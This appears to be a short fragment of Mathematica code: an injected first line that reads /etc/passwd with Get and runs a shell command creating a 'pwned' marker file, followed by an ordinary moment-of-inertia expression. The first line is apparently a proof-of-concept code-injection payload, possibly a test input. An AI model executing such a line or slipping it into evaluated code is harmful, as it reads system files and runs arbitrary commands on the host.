Get["/etc/passwd"]; Run["touch pwned"];
M22 = m2 l^2/3;
